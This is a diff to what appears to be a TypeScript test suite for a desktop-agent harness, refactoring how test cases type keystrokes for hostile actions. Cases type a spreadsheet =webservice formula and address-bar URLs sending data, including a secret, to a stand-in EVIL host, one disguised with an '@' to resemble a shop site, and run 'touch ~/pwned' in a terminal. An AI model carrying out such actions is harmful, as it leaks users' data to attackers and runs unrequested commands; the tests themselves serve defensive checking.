@@ -8,6 +8,9 @@ import { inFileManager } from './hostile-files.ts'
 import { losing, pressing } from './hostile-buttons.ts'
 import { inPages } from './hostile-pages.ts'
 
+/** A text as keys, one after the other, and the key after it. */
+const keysOf = (text: string, last: string): string => [...Array.from(text), last].join(' ')
+
 const COMMANDS: readonly Strategy[] = ['single']
 const IDS: readonly Strategy[] = ['host-app', 'single']
 
@@ -206,7 +209,7 @@ function telling(): Way[] {
       harm,
       does: async (hands) => {
         await hands.open('libreoffice')
-        await hands.keys([...`=webservice("${EVIL}/?d=1")`, 'Enter'].join(' '))
+        await hands.keys(keysOf(`=webservice("${EVIL}/?d=1")`, 'Enter'))
       },
     },
     {
@@ -221,7 +224,7 @@ function telling(): Way[] {
     },
     bar('the address bar, key by key', async (hands) => {
       await hands.keys('Ctrl+L')
-      await hands.keys(['Ctrl+A', ...`${EVIL}/?d=1`, 'Enter'].join(' '))
+      await hands.keys(`Ctrl+A ${keysOf(`${EVIL}/?d=1`, 'Enter')}`)
     }),
     bar('an address that names another site for people', async (hands) => {
       await hands.set('Address and search bar', `${EVIL}\\@${SHOP.replace('http://', '')}/?d=${SECRET}`)
@@ -294,7 +297,7 @@ function running(): Way[] {
       harm,
       does: async (hands) => {
         await hands.open('xterm')
-        await hands.keys([...'touch', 'Space', ...'~/pwned', 'Enter'].join(' '))
+        await hands.keys(`${keysOf('touch', 'Space')} ${keysOf('~/pwned', 'Enter')}`)
       },
     },
     { name: 'run a program: arguments of a terminal', truth, harm, does: (hands, desk) => hands.open('xterm', '-e', 'touch', join(desk.home, 'pwned')) }, // prettier-ignore
